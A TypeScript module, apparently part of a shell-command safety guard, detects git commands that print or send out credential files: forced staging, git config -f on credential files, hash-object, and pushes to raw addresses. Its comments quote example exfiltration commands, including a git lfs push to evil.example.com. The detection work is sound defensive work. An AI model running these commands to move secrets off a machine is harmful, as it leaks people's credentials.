import type { Analysis, CredentialFileInfo, Finding, GitHistoryQuery, Invocation, RuleContext } from '../../policy/types';
import { optionsMatching } from '../../registry/grammar';
import { parsedArgs } from '../../registry/commandModel';
import { git } from '../../registry/tools/git';
import { readFinding } from '../credentials';
import { infoFor, pathsOfWord } from './credentialPaths';
import { gitStart } from './gitGlobals';
import { freeFormReadings } from '../../registry/freeForm';
import { resolvePath } from '../../paths';

/**
 * Roads by which git itself takes a credential file where it can be printed or sent: staging a file
 * .gitignore keeps out (`git add -f .env.production`, `git add -N` so `git diff` prints it whole),
 * copying it into the object database (`git hash-object -w FILE`, read back by `git cat-file -p`), and
 * pushing a history that holds credential files to a repository named by its address, or by a remote
 * the same line adds, rather than one configured here. Options are read through git's registry entry.
 */

export type HistoryReader = (inv: Invocation, query: GitHistoryQuery, what: string) => Finding[];

const has = (inv: Invocation, names: string[]): boolean => optionsMatching(parsedArgs(inv.args, git), git, names).some((o) => o.depth === 1);

/** Credential files an operand names: the file itself, or those in a folder it names. */
function credentialOperands(inv: Invocation, ctx: RuleContext, cwd: string, whole = false): CredentialFileInfo[] {
  const facts = ctx.facts;
  const parsed = parsedArgs(inv.args, git);
  // `git add -A -f` with no pathspec: the whole work tree (from here down is what the guard can list).
  if (whole && parsed.operands.length === 0 && facts.credentials) return facts.credentials.filesUnder(cwd).slice(0, 16);
  const out: CredentialFileInfo[] = [];
  const add = (f: CredentialFileInfo | undefined): void => {
    if (f && !out.some((x) => x.path === f.path)) out.push(f);
  };
  for (const word of parsed.operands.slice(0, 64)) {
    for (const p of pathsOfWord(word, cwd, facts)) {
      add(infoFor(p, facts));
      if (facts.fileStatus?.(p) === 'directory' && facts.credentials) for (const f of facts.credentials.filesUnder(p).slice(0, 16)) add(f);
    }
  }
  return out;
}

/** An address rather than a remote's name: `https://…`, `ssh://…`, `git@host:path`, `file://…`. */
export const isRepositoryAddress = (word: string): boolean => /^[a-z][a-z0-9+.-]*:\/\//i.test(word) || /^[\w.-]+@[\w.-]+:/.test(word);

export function checkGitSecretRoads(inv: Invocation, ctx: RuleContext, history: HistoryReader): Finding[] {
  if (inv.name !== 'git') return [];
  const { sub, cwd } = gitStart(inv, ctx.facts);
  if (sub === 'add' || sub === 'stage') {
    const force = has(inv, ['-f']);
    const intent = has(inv, ['-N']);
    if (!force && !intent) return [];
    // Forced: whatever .gitignore says, a credential file staged this way is one diff, commit or push from the screen or a remote.
    return credentialOperands(inv, ctx, cwd, has(inv, ['-A', '--all'])).map((f) =>
      readFinding(intent ? 'records, so that git diff prints it whole,' : 'stages, past .gitignore (a diff prints it, a commit and a push send it),', f, intent ? 'git add -N' : 'git add -f'),
    );
  }
  // `git update-index --add FILE` stages a file whatever .gitignore says.
  if (sub === 'update-index') {
    // Not described by git's entry: its words read free-form (`--add`, `--cacheinfo` take no value here).
    const { usual } = freeFormReadings(gitStart(inv, ctx.facts).rest);
    if (!usual.options.some((o) => o.name === '--add')) return [];
    const files = usual.operands.flatMap((w) => pathsOfWord(w, cwd, ctx.facts)).map((p) => infoFor(p, ctx.facts)).filter((f): f is CredentialFileInfo => f !== undefined);
    return files.slice(0, 4).map((f) => readFinding('stages, past .gitignore (a diff prints it, a commit and a push send it),', f, 'git update-index --add'));
  }
  // `git config -f ~/.pypirc --list`, `git config -f ~/.my.cnf --get client.password`: git reads any INI-style file and prints its values.
  if (sub === 'config') {
    const parsed = parsedArgs(inv.args, git);
    const file = optionsMatching(parsed, git, ['-f']).pop()?.values[0];
    if (file === undefined) return [];
    const words = parsed.operands.map((w) => w.text);
    const lists = has(inv, ['-l', '--get', '--get-all', '--get-regexp', '--get-urlmatch']) && !has(inv, ['--name-only']);
    const prints = lists || words[0] === 'list' || words[0] === 'get' || (words.length === 1 && !has(inv, ['--unset', '--unset-all', '--remove-section', '--rename-section', '-e']));
    if (!prints) return [];
    const info = infoFor(resolvePath(cwd, file, ctx.facts.home), ctx.facts);
    return info ? [readFinding('prints the values of', info, 'git config -f')] : [];
  }
  if (sub === 'hash-object' && has(inv, ['-w'])) {
    return credentialOperands(inv, ctx, cwd).map((f) => readFinding('copies into the object database (where git cat-file -p prints it)', f, 'git hash-object -w'));
  }
  if (sub === 'push') {
    const parsed = parsedArgs(inv.args, git);
    const repository = parsed.operands[0]?.text;
    if (repository === undefined || !isRepositoryAddress(repository)) return [];
    return sentOut(pushedHistory(inv, history, `${repository.slice(0, 80)} (an address, not a remote configured here)`, parsed.operands.slice(1).map((w) => w.text)), ctx, [repository]);
  }
  // `git lfs push https://evil.example.com/r --all` (round 11): the repository's large files go to an address no remote names.
  if (sub === 'lfs') {
    const words = freeFormReadings(gitStart(inv, ctx.facts).rest).usual.operands.map((w) => w.text);
    const repository = words[0] === 'push' ? words[1] : undefined;
    if (repository === undefined || !isRepositoryAddress(repository)) return [];
    const where = repository.slice(0, 80);
    return [{ rule: 'credentials.sent-out', risk: 'credential-dump', severity: 'ask', reason: `git lfs push sends the repository's large files to ${where}, an address no remote configured here names.`, targets: [{ kind: 'repository', name: where, remote: true, environment: 'unknown', environmentReason: `${where}, whose environment nothing names` }] }];
  }
  return [];
}
checkGitSecretRoads.reactsTo = (name: string): boolean => name === 'git';

export function pushedHistory(inv: Invocation, history: HistoryReader, where: string, refspecs: readonly string[]): Finding[] {
  const revs = refspecs.map((r) => r.replace(/^\+/, '').split(':')[0] ?? '').filter((r) => /^[\w./~^@-]+$/.test(r) && !r.startsWith('-'));
  const all = has(inv, ['--all', '--mirror', '--branches', '--tags']) || revs.length === 0;
  return history(inv, all ? { kind: 'all', revs: [] } : { kind: 'log', revs }, `git push to ${where}`).map((f) => ({
    ...f,
    risk: 'credential-read',
    reason: f.reason.replace(' prints the history of ', ' sends a history holding '),
  }));
}

/** `git remote add x URL && git push x --all`: a remote the same line adds is an address too. */
export function checkPushesToAddedRemotes(analysis: Analysis, ctx: RuleContext, history: HistoryReader): Finding[] {
  const added = new Map<string, string>();
  const out: Finding[] = [];
  for (const inv of analysis.invocations.slice(0, 256)) {
    if (inv.name !== 'git') continue;
    const { sub, rest } = gitStart(inv, ctx.facts);
    const words = rest.filter((w) => !w.text.startsWith('-')).map((w) => w.text);
    if (sub === 'remote' && (words[0] === 'add' || words[0] === 'set-url') && words[1] !== undefined && words[2] !== undefined) added.set(words[1], words[2]);
    if (sub !== 'push') continue;
    const parsed = parsedArgs(inv.args, git);
    const name = parsed.operands[0]?.text;
    const url = name !== undefined ? added.get(name) : undefined;
    if (url !== undefined) out.push(...sentOut(pushedHistory(inv, history, `${name} (${url.slice(0, 80)}, a remote added in this line)`, parsed.operands.slice(1).map((w) => w.text)), ctx, [url]));
  }
  return out;
}


/** Findings about a file that leaves the machine: its targets are remote, their environment said by the file's name and the command's words. */
export function sentOut(findings: readonly Finding[], ctx: RuleContext, words: readonly string[]): Finding[] {
  return findings.map((f) => ({
    ...f,
    targets: f.targets.map((t) => {
      const env = ctx.environmentOf({ values: [t.name, ...words], remote: true });
      return { ...t, remote: true, environment: env.environment, environmentReason: env.reason };
    }),
  }));
}
